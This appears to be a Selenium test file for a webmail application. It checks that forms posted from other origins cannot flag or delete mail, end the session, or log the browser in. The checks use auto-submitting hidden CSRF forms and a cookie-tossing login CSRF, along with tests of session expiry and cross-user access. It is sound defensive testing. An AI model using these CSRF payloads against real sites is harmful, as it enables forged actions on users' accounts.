ATTACKERS = {"other-site": ("localhost", []), "same-host": ("127.0.0.1", []),
             "same-host-origin-null": ("127.0.0.1", [("Referrer-Policy", "no-referrer")])}


def auto_post(action: str, fields: list[tuple[str, str]]) -> str:
    inputs = "".join(f'<input type="hidden" name="{k}" value="{v}">' for k, v in fields)
    return (f'<form id="f" method="post" action="{action}">{inputs}</form>'
            "<script>document.getElementById('f').submit()</script>")


def run_attack(driver, probe, attacker: str, path: str, page: str, webmail, headers=()) -> None:
    """Serves `page` at `path` on the probe, opens it as `attacker`, waits until its form has
    landed on the webmail."""
    host, policy = ATTACKERS[attacker]
    probe.serve(path, page, policy + list(headers))
    driver.get(probe.url(host) + path)
    WebDriverWait(driver, 10).until(lambda d: d.current_url.startswith(webmail.url))
    time.sleep(0.2)


@pytest.mark.parametrize("attacker", sorted(ATTACKERS))
def test_another_sites_forms_change_nothing_and_end_no_session(browser, probe, stack, attacker):
    store, smtp, imap, webmail = stack
    subject = f"CSRF target {attacker}"
    uid = store_deliver(store, message(subject))
    inbox = inbox_id(store)
    session = log_in(browser, webmail)
    flags, act = f"{webmail.url}/mail/{inbox}/{uid}/flags", f"{webmail.url}/mail/{inbox}/act"

    run_attack(browser, probe, attacker, "/attack/flag.html", auto_post(flags, [("action", "flag")]), webmail)
    run_attack(browser, probe, attacker, "/attack/flag-guess.html",
               auto_post(flags, [("action", "flag"), ("csrf", session)]), webmail)
    run_attack(browser, probe, attacker, "/attack/delete.html",
               auto_post(act, [("action", "delete"), ("uid", str(uid)), ("back", f"/mail/{inbox}")]), webmail)
    run_attack(browser, probe, attacker, "/attack/logout.html", auto_post(webmail.url + "/logout", [("csrf", session)]),
               webmail)

    browser.get(f"{webmail.url}/mail/{inbox}/{uid}?seen=keep")
    assert path_of(browser) == f"/mail/{inbox}/{uid}?seen=keep", f"the session ended: {browser.current_url}"
    assert browser.find_element(By.TAG_NAME, "h1").text == subject, "the message is gone from the INBOX"
    assert "\\flagged" not in imap_flags(imap, uid)


@pytest.mark.parametrize("attacker", sorted(ATTACKERS))
def test_another_sites_login_form_does_not_log_the_browser_in(browser, probe, stack, attacker):
    """Login CSRF: the attacker's page posts the attacker's own account (bob) to /login. From
    the same host it can even set the `buzon_login` cookie the form's token is compared with
    (cookies do not keep to a port): the token then matches, and only the request's origin
    tells the webmail who posted."""
    store, smtp, imap, webmail = stack
    browser.get(webmail.url + "/login")  # the victim saw the login page once: a buzon_login cookie
    run_attack(browser, probe, attacker, "/attack/login.html",
               auto_post(webmail.url + "/login", [("username", BOB), ("password", PASSWORD), ("csrf", "tossed-token")]),
               webmail, headers=[("Set-Cookie", "buzon_login=tossed-token; Path=/login")])
    assert not (browser.get_cookie("buzon_session") or {}).get("value"), browser.get_cookies()
    browser.get(webmail.url + "/mail")
    assert path_of(browser) == "/login", f"logged in by another site's form: {browser.current_url} {browser.title!r}"


# --- the end of a session ----------------------------------------------------------------------------------


def test_log_out_and_the_old_cookie_does_not_get_back_in(browser, stack):
    store, smtp, imap, webmail = stack
    log_in(browser, webmail)
    browser.get(webmail.url + "/mail")
    assert path_of(browser) == f"/mail/{inbox_id(store)}"
    old = browser.get_cookie("buzon_session")
    assert old and old["value"]
    browser.find_element(By.CSS_SELECTOR, "header.top form[action='/logout'] button").click()
    WebDriverWait(browser, 10).until(lambda d: d.find_elements(By.TAG_NAME, "main"))
    assert path_of(browser) == "/login" and browser.title == "Log in" + SUFFIX, (
        f"the Log out button did not log out: {browser.current_url}, {browser.title!r}, "
        f"{browser.find_element(By.TAG_NAME, 'main').text!r}")
    assert not (browser.get_cookie("buzon_session") or {}).get("value")

    browser.add_cookie({"name": "buzon_session", "value": old["value"], "path": "/", "httpOnly": True, "sameSite": "Strict"})
    browser.get(webmail.url + "/mail")
    assert path_of(browser) == "/login", browser.current_url


# --- 3. another user's message ---------------------------------------------------------------------------------


def test_another_users_message_is_a_404_page_without_it(browser, stack):
    store, smtp, imap, webmail = stack
    uid, _ = deliver(smtp, message("Alice's secret plans", "The vault code is 0451.\r\n"))
    alices = inbox_id(store)
    log_in(browser, webmail, BOB)
    for path in (f"/mail/{alices}/{uid}", f"/mail/{alices}/{uid}/html", f"/mail/{alices}/{uid}/raw",
                 f"/mail/{alices}/{uid}/part/1", f"/mail/{alices}"):
        browser.get(webmail.url + path)
        assert path_of(browser) == path, browser.current_url
        assert response_status(browser) == 404, path
        assert browser.find_element(By.TAG_NAME, "h1").text == "Not found", path
        source = browser.page_source
        assert "secret plans" not in source and "0451" not in source, path
    assert "\\seen" not in imap_flags(imap, uid)
